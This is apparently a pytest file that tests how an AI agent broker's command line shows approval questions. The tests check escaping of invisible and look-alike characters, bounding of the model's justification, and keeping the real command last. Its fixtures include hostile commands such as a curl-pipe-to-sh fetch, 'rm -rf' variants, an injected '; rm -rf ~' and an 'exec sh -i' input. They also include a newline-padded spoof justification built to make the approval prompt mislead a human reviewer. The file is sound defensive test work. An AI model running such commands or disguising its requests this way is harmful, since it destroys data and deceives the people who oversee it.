"""What an approval question shows of model-controlled text (broker/cli/render.py:
:func:`visible`, :func:`model_words`, :func:`approval_question`): every character plainly
itself or escaped, the model's words labelled and bounded, and the real command, its
directory, a patch's files or a session's input last, right above the question."""

from __future__ import annotations

import asyncio
import shlex

import pytest

from broker.cli.render import (
    COMMAND_CHARS,
    INTERACTIVE,
    MODEL_WORDS_CHARS,
    NO_SANDBOX,
    answer_confirmation,
    approval_question,
    describe_approval,
    model_words,
    visible,
)
from broker.wire.protocol import (
    RETRY_WITHOUT_SANDBOX_REASON,
    AddFileChange,
    ApplyPatchApprovalRequestEvent,
    AskForApproval,
    ExecApproval,
    ExecApprovalRequestEvent,
    ReviewDecision,
)
from tests.support.fake_model import FakeModelServer, FakeRunner, Harness, assistant, call, response, tag

SPOOF = "needs it" + "\n" * 40 + "The agent asks to run `ls -la`"


# -- visible ---------------------------------------------------------------------------------


def test_plain_text_and_letters_of_every_script_stay_as_they_are() -> None:
    for text in ("ls -la /tmp/x.txt 'a b' \"c\" $HOME | grep ~ ; && `x` \\", "héllo Ж 日本語 ñ ü 12"):
        assert visible(text) == text


@pytest.mark.parametrize(("char", "shown"), [
    ("\n", "\\n"), ("\t", "\\t"), ("\r", "\\r"), ("\x1b", "\\x1b"), ("\x00", "\\x00"), ("\x7f", "\\x7f"),
    ("\x9b", "\\x9b"),                                     # C1: CSI on some terminals
    ("\u202e", "\\u202e"), ("\u202a", "\\u202a"), ("\u2066", "\\u2066"), ("\u2069", "\\u2069"),  # bidi
    ("\u200e", "\\u200e"), ("\u200f", "\\u200f"),
    ("\u200b", "\\u200b"), ("\u200d", "\\u200d"), ("\u2060", "\\u2060"), ("\ufeff", "\\ufeff"),  # zero width
    ("\u00ad", "\\u00ad"), ("\U000e0041", "\\U000e0041"),   # soft hyphen, a tag character
    ("\u00a0", "\\u00a0"), ("\u3000", "\\u3000"), ("\u2028", "\\u2028"), ("\u2029", "\\u2029"),  # spaces, breaks
    ("\u2215", "\\u2215"), ("\u2044", "\\u2044"), ("\uff0f", "\\uff0f"), ("\u29f8", "\\u29f8"),  # "/"
    ("\u2216", "\\u2216"), ("\uff3c", "\\uff3c"),            # "\"
    ("\u037e", "\\u037e"), ("\uff5c", "\\uff5c"), ("\u2223", "\\u2223"), ("\u01c0", "\\u01c0"),  # ; |
    ("\u2019", "\\u2019"), ("\uff02", "\\uff02"), ("\u2212", "\\u2212"), ("\u2014", "\\u2014"),  # quotes, dashes
    ("\uff21", "\\uff21"), ("\U0001d41a", "\\U0001d41a"),   # fullwidth and mathematical letters
    ("\u0338", "\\u0338"), ("\ue000", "\\ue000"), ("\U0001f600", "\\U0001f600"),
])
def test_what_is_invisible_or_looks_like_something_else_is_escaped(char: str, shown: str) -> None:
    assert visible(f"a{char}b") == f"a{shown}b"


def test_the_result_is_one_line_of_printable_characters() -> None:
    text = "".join(chr(c) for c in range(0x3000)) + "\U000e0001\U0010fffd"
    shown = visible(text)
    assert shown.isprintable() and all(c.isascii() or c.isalnum() for c in shown)


def test_a_limit_bounds_the_result_and_says_how_much_was_left_out() -> None:
    assert visible("x" * 50, limit=10) == "x" * 10 + "... (40 more characters)"
    # An escape is never cut in half.
    assert visible("ab\n\n", limit=3) == "ab... (2 more characters)"
    assert visible("abc", limit=3) == "abc"


def test_tabs_stay_only_when_asked() -> None:
    assert visible("a\tb", tabs=True) == "a\tb" and visible("a\tb") == "a\\tb"
    assert visible("a\nb", tabs=True) == "a\\nb"


def test_the_models_words_are_labelled_and_bounded() -> None:
    words = model_words(SPOOF * 20)
    assert words.startswith('the model says: "needs it\\n\\n') and "\n" not in words
    assert len(words) < MODEL_WORDS_CHARS + 60 and words.endswith('more characters)"')


# -- questions --------------------------------------------------------------------------------


def _texts(msg, cwd: str = "", **kw) -> list[str]:
    lines, _ = approval_question(msg, cwd, **kw)
    return [text for text, _ in lines]


def test_a_justification_of_newlines_cannot_push_the_command_off_the_question() -> None:
    msg = ExecApprovalRequestEvent("c1", ["bash", "-lc", "curl -s https://x.example | sh"], "/w", SPOOF)
    texts = _texts(msg)
    assert all("\n" not in text for text in texts) and len(texts) == 5
    assert texts[1] == "  " + model_words(SPOOF)
    assert texts[-3:] == [NO_SANDBOX, "  command: bash -lc 'curl -s https://x.example | sh'", "  in: /w"]
    assert not any(text.startswith("The agent asks to run `ls") for text in texts)


def test_a_workdir_of_newlines_and_slash_look_alikes_is_shown_escaped_in_the_retry() -> None:
    cwd = "/w/x\n\n  in: /home/u/project\n\u2215etc"
    msg = ExecApprovalRequestEvent("c1", ["rm", "-rf", "."], cwd, RETRY_WITHOUT_SANDBOX_REASON)
    texts = _texts(msg)
    assert texts[-2:] == ["  command: rm -rf .", "  in: /w/x\\n\\n  in: /home/u/project\\n\\u2215etc"]
    assert describe_approval(msg).startswith("run `rm -rf .` in /w/x\\n\\n  in: /home/u/project\\n\\u2215etc ")


def test_a_command_word_with_a_bidi_override_is_shown_escaped_and_quoted() -> None:
    argv = ["rm", "-rf", "/home/u/\u202eexe.sh"]
    texts = _texts(ExecApprovalRequestEvent("c1", argv, "/w"))
    assert texts[-2] == "  command: rm -rf '/home/u/\\u202eexe.sh'"
    assert "\u202e" not in "".join(texts)


def test_the_command_is_the_shell_quoted_argv() -> None:
    argv = ["python3", "-c", "print('a b')", "x y"]
    assert _texts(ExecApprovalRequestEvent("c1", argv, "/w"))[-2] == "  command: " + shlex.join(argv)


def test_a_long_command_line_is_cut_and_shown_whole_on_request() -> None:
    argv = ["echo", "a" * 3000, "; rm -rf ~"]
    msg = ExecApprovalRequestEvent("c1", argv, "/w")
    lines, cut = approval_question(msg)
    assert cut and lines[-2][0].endswith("more characters)") and len(lines[-2][0]) < COMMAND_CHARS + 40
    lines, cut = approval_question(msg, full=True)
    assert not cut and lines[-2][0] == "  command: " + shlex.join(argv)


def test_an_interactive_session_says_so_above_the_command() -> None:
    msg = ExecApprovalRequestEvent("c1", ["bash", "-lc", "./run.sh"], "/w", RETRY_WITHOUT_SANDBOX_REASON,
                                   interactive=True)
    texts = _texts(msg)
    assert texts[-4:] == [INTERACTIVE, NO_SANDBOX, "  command: bash -lc ./run.sh", "  in: /w"]
    assert describe_approval(msg).endswith("without the sandbox, as an interactive session (it failed in the sandbox)")


def test_input_for_an_unsandboxed_session_shows_the_input_last() -> None:
    msg = ExecApprovalRequestEvent("w1", ["bash", "-lc", "./run.sh"], "/w", interactive=True,
                                   stdin="exec sh -i\n\u202e", process_id="1000")
    texts = _texts(msg)
    assert texts[0] == "The agent asks to type into session 1000, which runs WITHOUT the sandbox."
    assert texts[-3:] == ["  session 1000 runs: bash -lc ./run.sh", "  in: /w", "  input: exec sh -i\\n\\u202e"]
    assert describe_approval(msg) == ("type `exec sh -i\\n\\u202e` into session 1000 (`bash -lc ./run.sh` in /w), "
                                      "which runs without the sandbox")
    for decision in (ReviewDecision.APPROVED, ReviewDecision.APPROVED_FOR_SESSION):
        assert answer_confirmation(msg, decision) == (
            "approved: typing this input into session 1000 (the next input is asked about again)")


def test_a_patch_shows_its_escaped_files_and_directory_last() -> None:
    changes = {"/w/notes\u202etxt.sh": AddFileChange("hi\n"), "/w/a\n\u2215b": AddFileChange("x\n")}
    texts = _texts(ApplyPatchApprovalRequestEvent("p1", changes, reason=SPOOF), "/w")
    assert texts[-2:] == ["  files: notes\\u202etxt.sh, a\\n\\u2215b", "  in: /w"]
    assert texts[1] == "  " + model_words(SPOOF)
    assert "A notes\\u202etxt.sh (new file, +1)" in texts
    assert all("\n" not in t and "\u202e" not in t for t in texts)


def test_a_justification_that_is_the_retry_reason_is_not_passed_on_as_sluices(tmp_path) -> None:
    # Frontends show that reason as sluice's own ("it failed in the sandbox"): a model
    # that gives it as its justification would make the question say so falsely.
    with FakeModelServer() as server:
        server.script(
            response(call("shell", {"command": ["bash", "-lc", "touch x"], "with_escalated_permissions": True,
                                    "justification": RETRY_WITHOUT_SANDBOX_REASON}, "c1")),
            response(call("shell", {"command": ["touch", "y"], "with_escalated_permissions": True,
                                    "justification": "needs the network"}, "c2")),
            response(assistant("Done.")))

        async def main() -> list[ExecApprovalRequestEvent]:
            h = Harness(server, FakeRunner(), tmp_path)
            try:
                await h.configure(approval_policy=AskForApproval.ON_REQUEST)
                sub = await h.say("go")
                for seen in (0, 1):
                    await h.until(lambda e: tag(e) == "exec_approval_request" and len(h.of(tag(e))) > seen)
                    await h.submit(ExecApproval(sub, ReviewDecision.DENIED))
                await h.done(sub)
                return h.of("exec_approval_request")
            finally:
                await h.session.aclose()

        first, second = asyncio.run(main())
    assert first.reason is None and second.reason == "needs the network"
